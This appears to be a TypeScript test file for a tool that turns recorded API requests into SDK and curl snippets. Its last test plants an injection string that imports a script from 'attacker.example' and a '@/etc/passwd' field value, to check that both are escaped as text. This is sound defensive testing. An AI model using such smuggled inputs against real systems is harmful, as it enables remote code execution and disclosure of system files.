import { createMock } from "sanguine/mock";
import { expect, it } from "vitest";
import { buildSnippets } from "../../../mock/tools/request-snippets.ts";
import { operations, type OperationId } from "../../../src/generated/operations.ts";
import { enable } from "../../contract/tour.ts";
import { callClient, prepareCall } from "../../support/calls.ts";
import { createNewEntry } from "../journal/create-new-entry.ts";

const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor as new (
  ...parts: string[]
) => (...values: unknown[]) => Promise<unknown>;

it("builds for each operation a call of the client that sends the same request again [CTL-11]", async () => {
  const mock = enable(createMock());
  const client = mock.client({ retries: 0 });
  const sent = () => {
    const { method, request, operation } = mock.requests.last() ?? {};
    return { operation, method, path: request?.path, query: request?.query, body: request?.body };
  };
  for (const operation of Object.keys(operations) as OperationId[]) {
    // Files cannot be written as text.
    if (operation === "labReports.create") continue;
    await callClient(client, await prepareCall(mock, operation));
    const entry = mock.requests.last();
    const first = sent();
    expect(first.operation, operation).toBe(operation);
    const { sdk } = buildSnippets(entry as NonNullable<typeof entry>, mock.url);
    await new AsyncFunction("client", "linkToken", sdk ?? "")(client, "token").catch((error: unknown) => {
      if (error instanceof SyntaxError || error instanceof TypeError) throw error;
    });
    expect(sent(), sdk ?? "").toEqual(first);
  }
});

it("sends a link step with the link token, which both snippets leave to whoever runs them [CTL-11]", () => {
  const path = "/v2/link/provider/password/acme_watch/complete_mfa";
  const request = {
    path,
    user_id: null,
    params: { provider: "acme_watch" },
    query: "",
    body: { mfa_code: "<hidden>" },
  };
  const entry = createNewEntry(1, { method: "POST", operation: "link.completeMfa", request });
  const { sdk, curl } = buildSnippets(entry, "http://127.0.0.1:1");
  expect(sdk).toBe('await client.link.completeMfa("acme_watch", { mfa_code: "<hidden>" }, { linkToken });');
  expect(curl).toContain(' -H "x-service-link-token: $SANGUINE_LINK_TOKEN" ');
});

it("does not wait for the body of a HEAD [CTL-11]", () => {
  const request = { path: "/v2/user", user_id: null, params: {}, query: "limit=1", body: undefined };
  const entry = createNewEntry(1, { method: "HEAD", operation: "users.list", request });
  expect(buildSnippets(entry, "http://127.0.0.1:1").curl).toBe(
    `curl --head 'http://127.0.0.1:1/v2/user?limit=1' \\\n  -H "x-service-api-key: $SANGUINE_API_KEY"`,
  );
});

it("leaves each file of a form to whoever runs the snippets, and prints what a rejected request chose as text, never as code or as the name of a file [CTL-11]", async () => {
  const mock = createMock();
  const planted = '1); await import("https://attacker.example/x.js"); (0';
  await mock.fetch(`${mock.url}/v3/lab_tests/${encodeURIComponent(planted)}/markers/2`);
  const entry = mock.requests.last();
  expect(entry).toMatchObject({ status: 401, operation: "markers.get" });
  const { sdk } = buildSnippets(entry as NonNullable<typeof entry>, mock.url);
  expect(sdk).toBe(`await client.markers.get(${JSON.stringify(planted)}, "2");`);
  const body = { user_id: "@/etc/passwd", file: ["<5 bytes>", "<7 bytes>"] };
  const request = { path: "/lab_report/v1/parser/job", user_id: null, params: {}, query: "", body };
  const upload = createNewEntry(1, { method: "POST", operation: "labReports.create", request });
  const snippets = buildSnippets(upload, mock.url);
  expect(snippets.curl).toMatch(
    / --form-string 'user_id=@\/etc\/passwd' \\\n {2}-F 'file=@FILE' \\\n {2}-F 'file=@FILE'$/,
  );
  expect(snippets.sdk).toBe('await client.labReports.create({ user_id: "@/etc/passwd", file });');
});
